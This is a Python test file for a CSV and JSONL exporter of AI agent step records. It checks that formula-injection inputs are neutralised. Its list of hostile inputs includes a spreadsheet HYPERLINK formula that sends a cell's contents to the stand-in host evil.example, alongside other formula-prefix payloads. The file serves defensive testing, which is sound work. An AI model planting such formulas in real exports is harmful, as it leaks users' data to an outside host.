"""CSV rows and JSONL lines of steps: pure code, no database."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from steps.export.records import MessageText, StepRecord
from steps.export.rows import (
    BOM,
    CSV_COLUMNS,
    csv_header,
    csv_row,
    csv_text,
    jsonl_line,
    jsonl_object,
    safe_cell,
)

HOSTILE = [
    'She said "hi",\nthen left;\r\nbye',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn first",
    "a\x00b",
    "ünïcødé 日本語 🙂 \u202e reversed",
    "x" * 200_000,
    "",
]


def read_csv(text: str) -> list[list[str]]:
    old = csv.field_size_limit(10**9)
    try:
        return list(csv.reader(io.StringIO(text, newline="")))
    finally:
        csv.field_size_limit(old)


def neutralised(value: str) -> str:
    value = value.replace("\x00", "\ufffd")
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def record(**kwargs) -> StepRecord:
    base = dict(
        id="step-00000000-0000-4000-8000-000000000001",
        step_time=datetime(2026, 11, 25, 9, 30, 0, 123, tzinfo=UTC),
        step_time_source="metrics",
        run_id="run-00000000-0000-4000-8000-000000000001",
        run_position=3,
        agent_id="agent-00000000-0000-4000-8000-000000000001",
        agent_name="support",
        model="gpt-4o-mini",
        provider="openai",
        status="success",
        stop_reason="end_turn",
        prompt_tokens=2578,
        completion_tokens=17,
        total_tokens=2595,
        duration_ns=28_721_060,
        feedback="positive",
        tags=["good", "long answer"],
        note="checked",
        metrics={"llm_request_ns": 25_101_238, "tool_execution_ns": None, "step_ns": 28_721_060},
    )
    return StepRecord(**(base | kwargs))


def test_header_and_row_line_up():
    row = csv_row(record())
    assert len(row) == len(CSV_COLUMNS) == len(csv_header())
    parsed = dict(zip(CSV_COLUMNS, read_csv(csv_text([row]))[0], strict=True))
    assert parsed["time_utc"] == "2026-11-25 09:30:00.000123"
    assert parsed["prompt_tokens"] == "2578"
    assert parsed["duration_ms"] == "28.721"
    assert parsed["llm_ms"] == "25.101"
    assert parsed["tool_ms"] == ""
    assert parsed["tags"] == "good, long answer"
    assert parsed["cached_input_tokens"] == ""


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_parses_back_exactly_and_formulas_are_text(text):
    messages = [
        MessageText("user_message", text),
        MessageText("tool_call_message", "", tool=text),
        MessageText("assistant_message", text),
    ]
    row = csv_row(record(texts=messages, note=text, agent_name=text, tags=[text]))
    body = BOM + csv_text([csv_header(), row])
    rows = read_csv(body.encode("utf-8").decode("utf-8-sig"))
    assert len(rows) == 2
    parsed = dict(zip(rows[0], rows[1], strict=True))
    for column in ("note", "agent_name", "tags", "tools", "first_user_text", "final_reply"):
        assert parsed[column] == neutralised(text), column
        assert not parsed[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_we_write_are_not_touched():
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""
    assert safe_cell("-5") == "'-5"


def test_first_user_text_skips_what_letta_wrote_itself():
    heartbeat = json.dumps({"type": "heartbeat", "reason": "[automated] Continuing."})
    wrapped = json.dumps({"type": "user_message", "message": "the real question"})
    row = csv_row(
        record(
            texts=[
                MessageText("user_message", heartbeat),
                MessageText("user_message", wrapped),
                MessageText("reasoning_message", "thinking"),
                MessageText("tool_call_message", "search(x)", tool="search"),
                MessageText("tool_call_message", "search(y)", tool="search"),
                MessageText("assistant_message", "first"),
                MessageText("assistant_message", "the answer"),
            ]
        )
    )
    parsed = dict(zip(CSV_COLUMNS, row, strict=True))
    assert parsed["first_user_text"] == "the real question"
    assert parsed["final_reply"] == "the answer"
    assert parsed["tools"] == "search"


def test_a_reasoning_item_ending_the_step_is_its_reply():
    ends = csv_row(record(texts=[MessageText("user_message", "q"), MessageText("reasoning_message", "A.")]))
    assert dict(zip(CSV_COLUMNS, ends, strict=True))["final_reply"] == "A."
    thought = record(
        texts=[MessageText("reasoning_message", "hm"), MessageText("tool_call_message", "f()", tool="f")]
    )
    assert dict(zip(CSV_COLUMNS, csv_row(thought), strict=True))["final_reply"] == ""


def test_jsonl_line_is_one_line_and_parses_back():
    messages = [{"message_type": "user_message", "content": text} for text in HOSTILE[:-2]]
    messages.append({"message_type": "assistant_message", "content": "line\u2028sep\u2029para"})
    obj = jsonl_object(record(messages=messages), include_traces=False)
    line = jsonl_line(obj)
    assert line.endswith("\n") and len(line.splitlines()) == 1
    back = json.loads(line)
    assert back["messages"] == messages
    assert back["time"] == "2026-11-25T09:30:00.000123Z"
    assert back["tokens"] == {"prompt": 2578, "completion": 17, "total": 2595, "cached_input": None}
    assert "traces" not in back


def test_jsonl_traces_only_when_asked():
    traces = [{"id": "t1", "request_json": {"messages": []}, "response_json": {}}]
    assert jsonl_object(record(traces=traces), include_traces=True)["traces"] == traces
    assert "traces" not in jsonl_object(record(traces=traces))
